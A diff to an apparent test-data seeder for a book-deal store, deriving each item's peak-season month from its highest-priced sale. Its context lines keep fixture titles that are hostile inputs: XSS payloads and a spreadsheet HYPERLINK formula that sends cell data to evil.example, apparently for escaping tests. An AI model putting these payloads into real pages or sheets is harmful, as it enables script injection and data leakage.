@@ -20,6 +20,7 @@ export const XSS_TITLE = '"><img src=x onerror=alert(1)>';
 export const SCRIPT_TITLE = '<script>alert("desk")</script> Organic Chemistry';
 export const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 
+const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
 const SEASONS = ['Year-round', 'Textbook (Summer)', 'Textbook (Winter)', 'Holiday', 'Gardening'];
 const CONDITIONS = ['Used - Like New', 'Used - Very Good', 'Used - Good', 'Used - Acceptable'];
 const WORDS = ['Calculus', 'Biology', 'Gardening', 'History', 'Chemistry', 'Poems', 'Law', 'Nursing', 'Economics', 'Statistics'];
@@ -92,12 +93,13 @@ export function saveDeals(store: Store, n: number, nowMs = NOW): void {
           Min_Listing_Price: Math.round(((allIn + 5.5) / 0.75) * 100) / 100,
           Sales_Rank_Current: Math.round(5_000 + noise(i, 4) * 2_000_000),
           Seasonality_Type: SEASONS[i % SEASONS.length] ?? null,
-          Peak_Season: 'Aug',
         },
         nowMs - (i % 300) * 3_600_000,
         'full',
       );
       const ev = evidenceFor(i, listAt, nowMs);
+      const top = ev.sales.reduce((a, b) => (b.priceCents > a.priceCents ? b : a));
+      store.deals.upsert({ ASIN: asin, Peak_Season: MONTHS[top.month] ?? null }, nowMs - (i % 300) * 3_600_000, 'full');
       store.evidence.save(asin, ev.sales.filter((s) => s.atMs > nowMs - 365 * DAY).length, JSON.stringify(ev), nowMs - DAY);
     }
   });
